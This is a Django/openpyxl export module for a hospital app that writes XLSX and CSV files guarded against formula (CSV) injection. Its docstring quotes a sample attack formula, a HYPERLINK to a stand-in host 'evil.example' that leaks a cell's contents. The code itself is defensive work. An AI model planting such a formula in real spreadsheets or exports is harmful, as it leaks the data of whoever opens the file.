"""The export writer every app uses: XLSX and CSV that a spreadsheet cannot run.

A title such as `=HYPERLINK("http://evil.example/?"&A2,"Click")` typed into the
app would be a live formula in a naive export: Excel runs it when finance opens
the file. Every text cell here is written as text, never as a formula (the
OWASP rule for CSV injection: text starting with =, +, -, @, a tab or a
carriage return). XLSX sheets get a bold frozen header row, column widths (at least
the header's, counting a Chinese character as two) and an autofilter; dates,
date-times and numbers stay dates, date-times and numbers.

An export takes the page's filters: the view builds the page's `ListFilterForm`
(hospital.forms) and `Sorting` from the same query string, the template links it
with `{% export_url "app:export_name" %}` (the page's query string without the
page number), and the view answers with `xlsx_response(content, "name")`.
"""

import csv
import datetime as dt
import io
import unicodedata
from collections.abc import Iterable, Sequence
from decimal import Decimal

from django.http import HttpResponse
from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
DEFAULT_WIDTH = 14
MAX_WIDTH = 60
MAX_SHEET_TITLE = 31  # Excel's limit
NUMBER_TYPES = (int, float, Decimal)


def display_width(text: str) -> int:
    """Columns a text takes in a spreadsheet: wide (Chinese) characters count twice."""
    return sum(2 if unicodedata.east_asian_width(char) in "WF" else 1 for char in text)


def xlsx_response(content: bytes, name: str) -> HttpResponse:
    """A download of an XLSX workbook named `<name>-<today>.xlsx`."""
    response = HttpResponse(content, content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{name}-{timezone.localdate():%Y%m%d}.xlsx"'
    return response


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def _plain(value):
    """A cell value: numbers, dates and booleans as they are; everything else as text."""
    if value is None:
        return ""
    if isinstance(value, dt.datetime) and value.tzinfo is not None:
        # Excel has no time zones: an aware moment is written in the hospital's local time
        return timezone.localtime(value).replace(tzinfo=None)
    if isinstance(value, (*NUMBER_TYPES, dt.date, bool)):
        return value
    return str(value)


class XlsxSheet:
    """One sheet being written: `append(values)` a row at a time, in a write-only
    workbook so that a year of rows does not sit in memory as cell objects."""

    def __init__(
        self,
        workbook: Workbook,
        title: str,
        headers: Sequence[str],
        widths: Sequence[int] = (),
        number_formats: Sequence[str | None] = (),
    ):
        if not headers or not all(str(header).strip() for header in headers):
            raise ValueError("Every column of an export sheet has a header.")
        self._sheet = workbook.create_sheet(str(title)[:MAX_SHEET_TITLE])
        self._columns = len(headers)
        self._rows = 0
        # per column, the Excel number format of its numbers ("#,##0.00", "0.0%"); None: General
        self._formats = list(number_formats)
        for index, header in enumerate(headers):
            width = widths[index] if index < len(widths) else DEFAULT_WIDTH
            width = min(max(width, display_width(str(header)) + 2), MAX_WIDTH)
            self._sheet.column_dimensions[get_column_letter(index + 1)].width = width
        self._sheet.freeze_panes = "A2"
        bold = Font(bold=True)
        header_cells = []
        for header in headers:
            cell = self._text_cell(str(header))
            cell.font = bold
            header_cells.append(cell)
        self._sheet.append(header_cells)

    def _text_cell(self, text: str) -> WriteOnlyCell:
        cell = WriteOnlyCell(self._sheet, value=text)
        cell.data_type = "s"  # text even when it starts with "=": never a formula
        return cell

    def append(self, values: Iterable) -> None:
        row = []
        for index, value in enumerate(values):
            plain = _plain(value)
            number_format = self._formats[index] if index < len(self._formats) else None
            if isinstance(plain, str):
                row.append(self._text_cell(plain))
            elif number_format and isinstance(plain, NUMBER_TYPES) and not isinstance(plain, bool):
                cell = WriteOnlyCell(self._sheet, value=plain)
                cell.number_format = number_format
                row.append(cell)
            else:
                row.append(plain)
        self._sheet.append(row)
        self._rows += 1

    def close(self) -> None:
        last = get_column_letter(max(self._columns, 1))
        self._sheet.auto_filter.ref = f"A1:{last}{self._rows + 1}"


class XlsxExport:
    """A workbook of one or more sheets: `sheet(title, headers, widths)`, then `to_bytes()`."""

    def __init__(self):
        self._workbook = Workbook(write_only=True)
        self._sheets: list[XlsxSheet] = []

    def sheet(
        self, title: str, headers: Sequence[str], widths: Sequence[int] = (), number_formats: Sequence[str | None] = ()
    ) -> XlsxSheet:
        sheet = XlsxSheet(self._workbook, title, headers, widths, number_formats)
        self._sheets.append(sheet)
        return sheet

    def to_bytes(self) -> bytes:
        for sheet in self._sheets:
            sheet.close()
        buffer = io.BytesIO()
        self._workbook.save(buffer)
        return buffer.getvalue()


def csv_text(value) -> str:
    """A CSV cell: text that a spreadsheet would read as a formula gets a leading apostrophe."""
    plain = _plain(value)
    if isinstance(plain, dt.datetime):
        return plain.isoformat(sep=" ", timespec="minutes")
    if not isinstance(plain, str):
        return str(plain)
    return f"'{plain}" if is_formula_like(plain) else plain


def csv_bytes(headers: Sequence[str], rows: Iterable[Sequence]) -> bytes:
    """A CSV file in UTF-8 with a byte-order mark, so that Excel opens Chinese text correctly."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([csv_text(h) for h in headers])
    for row in rows:
        writer.writerow([csv_text(v) for v in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
